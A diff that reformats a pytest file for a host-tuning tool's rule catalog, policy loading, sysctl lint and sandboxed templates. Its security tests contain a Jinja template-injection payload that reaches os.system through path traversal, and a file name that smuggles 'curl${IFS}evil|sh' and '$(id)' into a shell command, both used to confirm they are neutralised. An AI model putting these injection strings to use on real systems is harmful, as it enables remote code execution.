@@ -1,4 +1,6 @@
-"""Rules of an administrator's own: where they come from, what they may replace, what happens to old names."""
+"""Rules of an administrator's own: where they come from, what they may replace, what happens to old
+names.
+"""
 
 from __future__ import annotations
 
@@ -54,14 +56,18 @@ def test_custom_rule_that_replaces_takes_the_place_in_every_profile():
     found = catalog(site_swappiness=replacing())
     assert "memory-swappiness" not in found.rules
     assert "site-swappiness" in found.profiles["train-single"].rules
-    assert "site-swappiness" not in found.profiles["k8s-node"].rules  # it leaves the replaced one out
+    assert (
+        "site-swappiness" not in found.profiles["k8s-node"].rules
+    )  # it leaves the replaced one out
     assert "memory-swappiness" not in found.profiles["inference-latency"].params
     assert "site-swappiness" not in found.profiles["inference-latency"].params
 
 
 def test_policy_that_names_a_replaced_rule_means_the_new_one_and_is_told():
     found = catalog(site_swappiness=replacing())
-    policy = load_policy(FakeReader({"/etc/hosttune/policy.yaml": "ignore: [memory-swappiness]"}), found)
+    policy = load_policy(
+        FakeReader({"/etc/hosttune/policy.yaml": "ignore: [memory-swappiness]"}), found
+    )
     assert policy.ignore == ("site-swappiness",)
     assert policy.notes == (
         (
@@ -104,7 +110,9 @@ def test_rules_of_a_typed_folder_come_besides_the_others(tmp_path):
 
 def test_rule_in_both_folders_is_a_fault_that_names_the_other(tmp_path):
     (tmp_path / "site-swappiness.yaml").write_text(RULE)
-    with pytest.raises(BadInput, match=f"the rule in {FOLDER}/site-swappiness.yaml is called site-swappiness"):
+    with pytest.raises(
+        BadInput, match=f"the rule in {FOLDER}/site-swappiness.yaml is called site-swappiness"
+    ):
         load_catalog(FakeReader({f"{FOLDER}/site-swappiness.yaml": RULE}), str(tmp_path))
 
 
@@ -127,7 +135,12 @@ def renamed():
 def test_renamed_rule_is_found_by_its_old_name_with_a_note():
     found = renamed()
     policy = load_policy(
-        FakeReader({"/etc/hosttune/policy.yaml": "select: [site-swap]\nignore: [{rule: site-swap, reason: so}]"}), found
+        FakeReader(
+            {
+                "/etc/hosttune/policy.yaml": "select: [site-swap]\nignore: [{rule: site-swap, reason: so}]"
+            }
+        ),
+        found,
     )
     assert policy.select == ("site-swappiness",)
     assert policy.waivers[0].rule == "site-swappiness"
@@ -138,9 +151,13 @@ def test_renamed_rule_is_found_by_its_old_name_with_a_note():
 def test_deprecated_rule_still_runs_and_whoever_names_it_is_told():
     text = RULE + "status: deprecated\nreplaced_by: memory-swappiness\n"
     found = catalog(site_swappiness=text)
-    policy = load_policy(FakeReader({"/etc/hosttune/policy.yaml": "select: [site-swappiness]"}), found)
+    policy = load_policy(
+        FakeReader({"/etc/hosttune/policy.yaml": "select: [site-swappiness]"}), found
+    )
     assert "site-swappiness" in {rule.id for rule in policy.select_rules(found)}
-    assert policy.notes == ("/etc/hosttune/policy.yaml: site-swappiness is deprecated; use memory-swappiness",)
+    assert policy.notes == (
+        "/etc/hosttune/policy.yaml: site-swappiness is deprecated; use memory-swappiness",
+    )
 
 
 WORDS = """\
@@ -179,14 +196,19 @@ def test_wish_speaks_in_words_of_its_own():
 
 def test_words_of_a_wish_stand_behind_what_holds_it():
     """The way out of the hold comes first."""
-    (found,) = findings_of(WORDS.replace("risk: low", "risk: high"), {"/proc/sys/kernel/core_pattern": "|/bin/x\n"})
+    (found,) = findings_of(
+        WORDS.replace("risk: low", "risk: high"), {"/proc/sys/kernel/core_pattern": "|/bin/x\n"}
+    )
     assert found.hold.kind is HoldKind.ABOVE_MAX_RISK
     assert found.todo.startswith("allow it with --max-risk high")
     assert found.todo.endswith("\ntell the security team")
 
 
 def test_words_of_a_wish_say_nothing_where_it_is_met():
-    files = {"/proc/sys/kernel/core_pattern": "core.%p\n", "/etc/sysctl.d/10-a.conf": "kernel.core_pattern=core.%p\n"}
+    files = {
+        "/proc/sys/kernel/core_pattern": "core.%p\n",
+        "/etc/sysctl.d/10-a.conf": "kernel.core_pattern=core.%p\n",
+    }
     (found,) = findings_of(WORDS, files)
     assert (found.verdict, found.reason, found.todo) == (Verdict.OK, "", "")
 
@@ -209,7 +231,9 @@ def test_lint_tells_a_sysctl_that_no_kernel_has(key, near):
     assert fault.where.field == "want[0].sysctl"
     assert f"no kernel is known to have {key}" in fault.message
     assert (f"did you mean {near}?" in fault.message) == bool(near)
-    assert rule_faults(load_document(key_rule(key), "site-core-pattern.yaml")) == []  # no command stops for it
+    assert (
+        rule_faults(load_document(key_rule(key), "site-core-pattern.yaml")) == []
+    )  # no command stops for it
 
 
 @pytest.mark.parametrize(
@@ -223,7 +247,12 @@ def test_lint_knows_the_keys_of_interfaces_and_modules(key):
 
 
 def test_lint_takes_the_key_of_a_module_that_is_named_and_looks_into_expressions():
-    assert key_faults(load_document(key_rule("lnet.debug", ", module: lnet"), "site-core-pattern.yaml")) == []
+    assert (
+        key_faults(
+            load_document(key_rule("lnet.debug", ", module: lnet"), "site-core-pattern.yaml")
+        )
+        == []
+    )
     asked = WORDS.replace('sysctl["kernel.core_pattern"]', 'sysctl["kernel.core_patern"]')
     (fault,) = key_faults(load_document(asked, "site-core-pattern.yaml"))
     assert fault.where.field == "want[0].message"
@@ -232,11 +261,17 @@ def test_lint_takes_the_key_of_a_module_that_is_named_and_looks_into_expressions
 
 def test_image_gets_no_file_for_a_key_that_no_kernel_has():
     image = {"persistent_only": True, "kind": "root"}
-    (found,) = findings_of(key_rule("kernel.hung_task_timeout_sec"), {"/etc/hostname": "h"}, **image)
+    (found,) = findings_of(
+        key_rule("kernel.hung_task_timeout_sec"), {"/etc/hostname": "h"}, **image
+    )
     assert (found.verdict, found.changes) == (Verdict.UNKNOWN, ())
     assert "did you mean kernel.hung_task_timeout_secs?" in found.reason
-    (found,) = findings_of(key_rule("lnet.debug", ", module: lnet"), {"/etc/hostname": "h"}, **image)
-    assert [str(one.address) for one in found.changes] == ["file:/etc/sysctl.d/60-hosttune-site-core-pattern.conf"]
+    (found,) = findings_of(
+        key_rule("lnet.debug", ", module: lnet"), {"/etc/hostname": "h"}, **image
+    )
+    assert [str(one.address) for one in found.changes] == [
+        "file:/etc/sysctl.d/60-hosttune-site-core-pattern.conf"
+    ]
 
 
 def test_running_kernel_without_a_key_that_no_kernel_has_names_the_nearest():
@@ -246,7 +281,10 @@ def test_running_kernel_without_a_key_that_no_kernel_has_names_the_nearest():
     assert "did you mean vm.swappiness?" in found.reason
     for key, more in (("net.netfilter.nf_conntrack_max", ""), ("lnet.debug", ", module: lnet")):
         (found,) = findings_of(key_rule(key, more), {"/proc/sys/vm/swappiness": "60\n"})
-        assert (found.verdict, found.reason) == (Verdict.NOT_APPLICABLE, f"this kernel has no {key}")
+        assert (found.verdict, found.reason) == (
+            Verdict.NOT_APPLICABLE,
+            f"this kernel has no {key}",
+        )
 
 
 def test_approval_of_a_policy_is_of_the_custom_rules_that_it_runs_too():
@@ -265,14 +303,19 @@ def test_approval_of_a_policy_is_of_the_custom_rules_that_it_runs_too():
 
 @pytest.mark.parametrize("form", ["{path}", "{{{{ '{path}' }}}}"])
 def test_template_of_a_rule_is_one_of_ours_and_runs_nothing(tmp_path, form):
-    """Rules come with images and records, too: their text would run with the rights of who looks at them."""
+    """Rules come with images and records, too: their text would run with the rights of who looks at
+    them.
+    """
     (tmp_path / "evil.j2").write_text(
         "{{ cycler.__init__.__globals__.os.system('touch " + str(tmp_path / "ran") + "') }}SECRET"
     )
     path = f"{'../' * 12}{tmp_path}/evil.j2".replace("//", "/")
     wish = f'  - dropin: /etc/x.conf\n    template: "{form.format(path=path)}"\n'
     text = RULE[: RULE.index("  - sysctl")] + wish
-    files = {f"{FOLDER}/site-swappiness.yaml": text, "/etc/hosttune/policy.yaml": "select: [site-swappiness]"}
+    files = {
+        f"{FOLDER}/site-swappiness.yaml": text,
+        "/etc/hosttune/policy.yaml": "select: [site-swappiness]",
+    }
     reader = FakeReader(files)
     try:
         found = load_catalog(reader)
@@ -288,7 +331,9 @@ def test_template_of_a_rule_is_one_of_ours_and_runs_nothing(tmp_path, form):
 
 def test_values_of_a_template_run_nothing(monkeypatch):
     text = "{{ value.__class__ }}"
-    monkeypatch.setitem(render.__globals__["_make_environment"]().loader.__dict__, "load_func", lambda _name: text)
+    monkeypatch.setitem(
+        render.__globals__["_make_environment"]().loader.__dict__, "load_func", lambda _name: text
+    )
     with pytest.raises(HosttuneError, match="SecurityError"):
         render("a-template.j2", value="")
 
@@ -297,9 +342,14 @@ def told_of(*wishes, others=""):
     """What a host says whose record brings a rule with these wishes."""
     text = RULE[: RULE.index("  - sysctl")] + "".join(f"  - {wish}\n" for wish in wishes)
     policy = f"select: [site-swappiness{others}]"
-    reader = FakeReader({f"{FOLDER}/site-swappiness.yaml": text, "/etc/hosttune/policy.yaml": policy})
+    reader = FakeReader(
+        {f"{FOLDER}/site-swappiness.yaml": text, "/etc/hosttune/policy.yaml": policy}
+    )
     found = load_catalog(reader)
-    return {one.rule: one for one in examine(reader, found, load_policy(reader, found)).plan(prove=False).findings}
+    return {
+        one.rule: one
+        for one in examine(reader, found, load_policy(reader, found)).plan(prove=False).findings
+    }
 
 
 @pytest.mark.parametrize(
@@ -315,7 +365,9 @@ def told_of(*wishes, others=""):
     ],
 )  # fmt: skip
 def test_value_that_a_field_does_not_take_is_told_of_its_rule(wish, said):
-    """Of an expression lint knows the type only; another value costs this rule, and nothing else."""
+    """Of an expression lint knows the type only; another value costs this rule, and nothing
+    else.
+    """
     findings = told_of(wish, others=", memory-swappiness")
     assert findings["site-swappiness"].verdict is Verdict.UNKNOWN
     assert said in findings["site-swappiness"].reason
@@ -337,7 +389,9 @@ def test_value_that_a_field_does_not_take_is_told_of_its_rule(wish, said):
     ],
 )  # fmt: skip
 def test_lint_tells_a_name_that_stands_in_a_command_without_quotes(do, parts):
-    """What a device, a mount point or a package is called comes from the host; people copy the command."""
+    """What a device, a mount point or a package is called comes from the host; people copy the
+    command.
+    """
     text = (
         RULE[: RULE.index("want:")]
         + f"""for_each: disks.all
@@ -356,8 +410,13 @@ expect:
 
 def test_shell_word_is_one_word_for_a_shell():
     name = "/data2;curl${IFS}evil|sh;#'$(id)`id`\n"
-    text = compile_text("printf %s {{ shell_word(item) }}", Where("x.yaml")).evaluate({"item": name})
-    assert subprocess.run(["bash", "-c", text], capture_output=True, text=True, check=True).stdout == name
+    text = compile_text("printf %s {{ shell_word(item) }}", Where("x.yaml")).evaluate(
+        {"item": name}
+    )
+    assert (
+        subprocess.run(["bash", "-c", text], capture_output=True, text=True, check=True).stdout
+        == name
+    )
 
 
 def test_rule_with_more_wishes_than_can_be_compared_is_unknown_and_others_go_on():
@@ -368,7 +427,9 @@ def test_rule_with_more_wishes_than_can_be_compared_is_unknown_and_others_go_on(
         + f"for_each: {json.dumps(items)}\nwant:\n  - {{sysctl: vm.swappiness, at_most: 1}}\n"
     )
     policy = "select: [site-swappiness, memory-swappiness]"
-    reader = FakeReader({f"{FOLDER}/site-swappiness.yaml": text, "/etc/hosttune/policy.yaml": policy})
+    reader = FakeReader(
+        {f"{FOLDER}/site-swappiness.yaml": text, "/etc/hosttune/policy.yaml": policy}
+    )
     found = load_catalog(reader)
     plan = examine(reader, found, load_policy(reader, found)).plan(prove=False)
     (own,) = (one for one in plan.findings if one.rule == "site-swappiness")
